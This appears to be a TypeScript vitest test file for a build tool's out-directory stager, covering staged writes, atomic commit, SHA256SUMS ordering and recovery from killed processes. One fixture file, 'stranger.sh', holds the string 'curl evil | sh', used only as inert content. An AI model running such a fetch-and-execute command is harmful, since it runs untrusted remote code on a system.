import { createHash } from 'node:crypto';
import { watch } from 'node:fs';
import { lstat, mkdir, mkdtemp, readdir, readFile, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { commitStaging } from '../../src/report/out-dir-commit.js';
import { OutDirStage, withOutDirStage } from '../../src/report/out-dir.js';
import type { BuildReport } from '../../src/report/report.js';
import { row, sampleReport } from '../fixtures/junit/sample-report.js';

/**
 * The out dir's one writer (src/report/out-dir.ts): a command stages every change and swaps it
 * in once. Before the commit the out dir is untouched byte for byte (and after a failure or an
 * interruption stays so); within the command, readers see the staged view; SHA256SUMS is
 * written once, last; a stage a killed process left is cleaned, or finished when it was mid-swap.
 */
const sha = (data: string | Buffer) => createHash('sha256').update(data).digest('hex');
const TARBALL = 'hello-1.0.0-kernel6.1.0-57-amd64-x86_64.dkms.tar.gz';

/** An out dir as a build left it, with a stranger's file and an earlier pack's directory. */
async function committedOutDir(): Promise<{ dir: string; report: BuildReport }> {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'kfarm-stage-'));
  await writeFile(path.join(dir, TARBALL), 'old tarball');
  const report: BuildReport = {
    ...sampleReport(),
    modules: undefined,
    kernels: [row({ kernel: '6.1.0-57-amd64', verdict: 'built', tarball: { path: TARBALL, sha256: sha('old tarball'), size: 11 } })],
  };
  await writeFile(path.join(dir, 'report.json'), `${JSON.stringify(report, null, 2)}\n`);
  for (const f of ['junit.xml', 'report.html']) await writeFile(path.join(dir, f), `old ${f}`);
  await writeFile(path.join(dir, 'SHA256SUMS'), 'old sums\n');
  await mkdir(path.join(dir, 'logs'));
  await writeFile(path.join(dir, 'logs', '6.1.0-57-amd64.log'), 'old log');
  await mkdir(path.join(dir, 'kmm'));
  await writeFile(path.join(dir, 'kmm', 'old.oci.tar'), 'an earlier pack');
  await writeFile(path.join(dir, 'stranger.sh'), 'curl evil | sh');
  return { dir, report };
}

/** Every entry below `dir` (hidden ones too): type, bytes, mode, inode and mtime. */
async function snapshot(dir: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const name of (await readdir(dir, { recursive: true })).sort()) {
    const p = path.join(dir, name);
    const s = await lstat(p);
    out[name] = `${s.isDirectory() ? 'dir' : sha(await readFile(p))} ${s.mode} ${s.ino} ${s.mtimeMs}`;
  }
  return out;
}

/** Everything a build --format --verify command stages: files, logs, a replaced directory, a removal, the reports twice. */
async function stageEverything(stage: OutDirStage, report: BuildReport): Promise<BuildReport> {
  const tarball = await stage.stageFile(TARBALL, Buffer.from('new tarball'));
  await stage.stageFile('logs/6.1.0-57-amd64.log', Buffer.from('new log'));
  await stage.remove('hello-1.0.0.dkms.tar.gz');
  const kmm = await stage.dirTarget('kmm');
  await writeFile(path.join(kmm, 'new.oci.tar'), 'a new pack');
  const next: BuildReport = {
    ...report,
    kernels: [{ ...(report.kernels[0] as BuildReport['kernels'][number]), tarball: { path: TARBALL, sha256: tarball.sha256, size: tarball.size } }],
    packages: [{ format: 'kmm', path: 'kmm/new.oci.tar', sha256: sha('a new pack'), size: 10 }],
  };
  await stage.stageReports(next);
  await stage.stageReports({ ...next, warnings: ['verified'] });
  return next;
}

describe('before the commit the out dir is untouched', () => {
  it('a command that fails after staging everything leaves every byte, inode and mtime as it was, and no stage behind', async () => {
    const { dir, report } = await committedOutDir();
    const before = await snapshot(dir);
    const err = await withOutDirStage(dir, async (stage) => {
      await stageEverything(stage, report);
      throw new Error('the verify boots failed');
    }).catch((e: unknown) => e);
    expect((err as Error).message).toBe('the verify boots failed');
    expect(await snapshot(dir)).toEqual(before);
  });

  it('a commit whose checks fail (a staged deliverable that does not match the report) writes nothing', async () => {
    const { dir, report } = await committedOutDir();
    const before = await snapshot(dir);
    const err = await withOutDirStage(dir, async (stage) => {
      await stage.stageFile(TARBALL, Buffer.from('not what the report says'));
      await stage.stageReports(report);
    }).catch((e: unknown) => e);
    expect(err).toMatchObject({ code: 'BAD_OPTION', message: `${dir}: ${TARBALL} does not match the sha256 report.json gives` });
    expect(await snapshot(dir)).toEqual(before);
  });

  it('an --junit path that cannot be written fails the command before the swap', async () => {
    const { dir, report } = await committedOutDir();
    const before = await snapshot(dir);
    const err = await withOutDirStage(dir, (stage) => stage.stageReports(report, { junit: path.join(dir, 'stranger.sh', 'junit.xml') })).catch((e: unknown) => e);
    expect(err).toMatchObject({ code: 'BAD_OPTION', message: expect.stringContaining('cannot write the JUnit report to') });
    expect(await snapshot(dir)).toEqual(before);
  });
});

describe('within the command: the staged view', () => {
  it('reads what the command staged, else the committed file; a removed file is gone; a replaced directory shows only its new files', async () => {
    const { dir, report } = await committedOutDir();
    const stage = await OutDirStage.open(dir);
    try {
      const next = await stageEverything(stage, report);
      expect(await stage.readReport()).toEqual({ ...next, warnings: ['verified'] });
      expect(await readFile(stage.locate(TARBALL), 'utf8')).toBe('new tarball');
      expect(await readFile(stage.locate('logs/6.1.0-57-amd64.log'), 'utf8')).toBe('new log');
      expect(await readFile(stage.locate('stranger.sh'), 'utf8')).toBe('curl evil | sh');
      await expect(readFile(stage.locate('hello-1.0.0.dkms.tar.gz'))).rejects.toMatchObject({ code: 'ENOENT' });
      expect(await readFile(stage.locate('kmm/new.oci.tar'), 'utf8')).toBe('a new pack');
      await expect(readFile(stage.locate('kmm/old.oci.tar'))).rejects.toMatchObject({ code: 'ENOENT' });
      // and the out dir itself still holds the old ones
      expect(JSON.parse(await readFile(path.join(dir, 'report.json'), 'utf8'))).toEqual(report);
      expect(() => stage.locate('../escape')).toThrow(/not a file inside/);
    } finally {
      await stage.discard();
    }
  });
});

describe('the commit: one swap, SHA256SUMS last and once', () => {
  it("moves every staged file in, the reports after the files, SHA256SUMS once and last; strangers' files stay, unlisted", async () => {
    const { dir, report } = await committedOutDir();
    await writeFile(path.join(dir, 'hello-1.0.0.dkms.tar.gz'), 'a stale full tarball');
    const events: string[] = [];
    const watcher = watch(dir, (_, name) => {
      if (name && !name.startsWith('.kfarm-staging-')) events.push(name);
    });
    try {
      await withOutDirStage(dir, (stage) => stageEverything(stage, report));
      await new Promise((r) => setTimeout(r, 200)); // inotify's events arrive on the event loop
    } finally {
      watcher.close();
    }
    // each top-level file changed once: no second write of report.json or SHA256SUMS in the command
    expect(events.filter((e) => e === 'SHA256SUMS')).toEqual(['SHA256SUMS']);
    expect(events.filter((e) => e === 'report.json')).toEqual(['report.json']);
    expect(events.at(-1)).toBe('SHA256SUMS');
    expect(events.indexOf('report.json')).toBeGreaterThan(events.indexOf(TARBALL));
    const sums = (await readFile(path.join(dir, 'SHA256SUMS'), 'utf8'))
      .trim()
      .split('\n')
      .map((l) => l.split('  ')[1]);
    expect(sums).toEqual(['junit.xml', TARBALL, 'kmm/new.oci.tar', 'report.html', 'report.json'].sort());
    expect(await readFile(path.join(dir, 'stranger.sh'), 'utf8')).toBe('curl evil | sh');
    expect((await readdir(dir)).sort()).toEqual(['SHA256SUMS', TARBALL, 'junit.xml', 'kmm', 'logs', 'report.html', 'report.json', 'stranger.sh'].sort());
    expect(await readdir(path.join(dir, 'kmm'))).toEqual(['new.oci.tar']);
    expect(await readFile(path.join(dir, 'logs', '6.1.0-57-amd64.log'), 'utf8')).toBe('new log');
    expect(JSON.parse(await readFile(path.join(dir, 'report.json'), 'utf8'))).toMatchObject({ warnings: ['verified'] });
  });
});

describe('what a killed command left', () => {
  it('a stage never committed is removed by the next command, the out dir untouched', async () => {
    const { dir, report } = await committedOutDir();
    const before = await snapshot(dir);
    const left = await OutDirStage.open(dir);
    await stageEverything(left, report);
    // as if killed: its process is gone (a pid no process has), the stage stays
    const dead = path.join(dir, `.kfarm-staging-999999999-abc`);
    await import('node:fs/promises').then((fs) => fs.rename(left.staging, dead));
    await withOutDirStage(dir, async () => undefined);
    expect((await readdir(dir)).filter((n) => n.startsWith('.kfarm-staging-'))).toEqual([]);
    const after = await snapshot(dir);
    // the second command committed only a fresh SHA256SUMS for the same report
    delete before.SHA256SUMS;
    delete after.SHA256SUMS;
    expect(after).toEqual(before);
  });

  it('a swap cut short is finished by the next command', async () => {
    const { dir, report } = await committedOutDir();
    const stage = await OutDirStage.open(dir);
    await stageEverything(stage, report);
    const dead = path.join(dir, `.kfarm-staging-999999999-xyz`);
    const { rename } = await import('node:fs/promises');
    await rename(stage.staging, dead);
    // the first move done, then killed: commit.json is there, the rest still staged
    await writeFile(path.join(dead, 'commit.json'), JSON.stringify({ ops: [{ put: TARBALL }, { put: 'kmm', dir: true }, { put: 'report.json' }] }));
    await rename(path.join(dead, 'files', TARBALL), path.join(dir, TARBALL));
    await withOutDirStage(dir, async () => undefined);
    expect(await readFile(path.join(dir, TARBALL), 'utf8')).toBe('new tarball');
    expect(await readdir(path.join(dir, 'kmm'))).toEqual(['new.oci.tar']);
    expect(JSON.parse(await readFile(path.join(dir, 'report.json'), 'utf8'))).toMatchObject({ warnings: ['verified'] });
    expect((await readdir(dir)).filter((n) => n.startsWith('.kfarm-staging-'))).toEqual([]);
  });

  it('commitStaging is idempotent: a second run over a finished swap changes nothing', async () => {
    const { dir } = await committedOutDir();
    const staging = path.join(dir, '.kfarm-staging-1-x');
    await mkdir(path.join(staging, 'files'), { recursive: true });
    await writeFile(path.join(staging, 'files', 'new.txt'), 'n');
    await commitStaging(dir, staging, [{ put: 'new.txt' }, { remove: 'stranger.sh' }]);
    const once = await snapshot(dir);
    await mkdir(path.join(staging, 'files'), { recursive: true });
    await commitStaging(dir, staging, [{ put: 'new.txt' }, { remove: 'stranger.sh' }]);
    expect(await snapshot(dir)).toEqual(once);
  });
});
